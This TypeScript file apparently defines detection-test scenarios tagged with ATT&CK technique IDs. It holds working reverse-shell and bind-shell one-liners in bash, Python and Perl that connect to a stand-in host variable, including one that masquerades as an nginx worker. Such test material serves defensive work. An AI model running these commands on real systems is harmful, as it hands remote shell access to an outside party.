import { scenarios, WWW_DATA } from "../scenario.ts";

/** What a shell at the other end of a connection is called: the interpreter, or the way that it talks. */
const SHELL = ["T1059.004", "T1059", "T1095", "T1071", "T1571"] as const;
const PYTHON = [...SHELL, "T1059.006"] as const;

/** Shells whose input and output is a socket. */
export const REVERSE_SHELLS = scenarios([
  {
    id: "reverse-shell.bash",
    title: "bash with its standard descriptors on /dev/tcp",
    techniques: SHELL,
    quick: true,
    script: "act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'",
  },
  {
    id: "reverse-shell.python",
    title: "python: connect, dup2 three times, sh",
    techniques: PYTHON,
    variant: "scripted",
    uid: WWW_DATA,
    needs: ["python3"],
    quick: true,
    script: `act; python3 -c 'import socket,os
s=socket.create_connection((os.environ["FAR"],4444))
for fd in 0,1,2: os.dup2(s.fileno(),fd)
os.execv("/bin/sh",["sh","-i"])'`,
  },
  {
    id: "reverse-shell.python-pty",
    title: "python: a shell on a pseudo terminal, relayed to a connection",
    techniques: PYTHON,
    variant: "scripted",
    needs: ["python3"],
    seconds: 6,
    script: `act; timeout 5 python3 -c 'import socket,os,pty
s=socket.create_connection((os.environ["FAR"],4444))
for fd in 0,1,2: os.dup2(s.fileno(),fd)
pty.spawn("/bin/sh")'`,
  },
  {
    id: "reverse-shell.perl",
    title: "perl: a socket as standard input and output of sh",
    techniques: SHELL,
    variant: "scripted",
    needs: ["perl"],
    script: `act; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($ENV{FAR})));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i")'`,
  },
  {
    id: "reverse-shell.fifo",
    title: "a fifo between bash's connection and sh: the shell itself holds no socket",
    techniques: SHELL,
    seconds: 6,
    script:
      "act; mkfifo $HOOD/f; timeout 5 bash -c 'exec 3<>/dev/tcp/'$FAR'/4444; cat <&3 > '$HOOD'/f & sh -i < '$HOOD'/f >&3 2>&1'",
  },
  {
    id: "reverse-shell.awk",
    title: "a loop that reads commands from a connection and gives each to a new sh",
    techniques: SHELL,
    variant: "scripted",
    seconds: 6,
    script:
      "act; timeout 5 bash -c 'exec 3<>/dev/tcp/'$FAR'/4444; while read -r line <&3; do sh -c \"$line\" >&3 2>&1; done'",
  },
  {
    id: "reverse-shell.renamed",
    title: "a copy of bash named like a web server's worker",
    techniques: [...SHELL, "T1036", "T1036.005"],
    variant: "renamed",
    script:
      "act; cp /bin/bash $HOOD/nginx-worker; $HOOD/nginx-worker -c 'exec '$HOOD'/nginx-worker -i >& /dev/tcp/'$FAR'/4444 0>&1'",
  },
  {
    id: "reverse-shell.slow",
    title: "a python shell that waits for three seconds between its steps",
    techniques: PYTHON,
    variant: "slow",
    needs: ["python3"],
    seconds: 12,
    script: `act; python3 -c 'import socket,os,time
s=socket.create_connection((os.environ["FAR"],8443)); time.sleep(3)
for fd in 0,1,2: os.dup2(s.fileno(),fd)
time.sleep(3); os.execv("/bin/sh",["sh","-c","sleep 2; id"])'`,
  },
  {
    id: "reverse-shell.interleaved",
    title: "bash on /dev/tcp while the server goes on serving",
    techniques: SHELL,
    variant: "interleaved",
    uid: WWW_DATA,
    script: "sleep 1; act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'",
  },
  {
    id: "bind-shell.python",
    title: "a shell behind a listening port",
    techniques: PYTHON,
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import socket,os,subprocess
l=socket.socket(); l.setsockopt(1,2,1); l.bind(("0.0.0.0",31337)); l.listen(1)
c=subprocess.Popen(["bash","-c","exec 3<>/dev/tcp/127.0.0.1/31337; echo id >&3; echo exit >&3; cat <&3"],stdout=subprocess.DEVNULL)
s,_=l.accept()
for fd in 0,1,2: os.dup2(s.fileno(),fd)
os.execv("/bin/sh",["sh","-i"])'`,
  },
]);
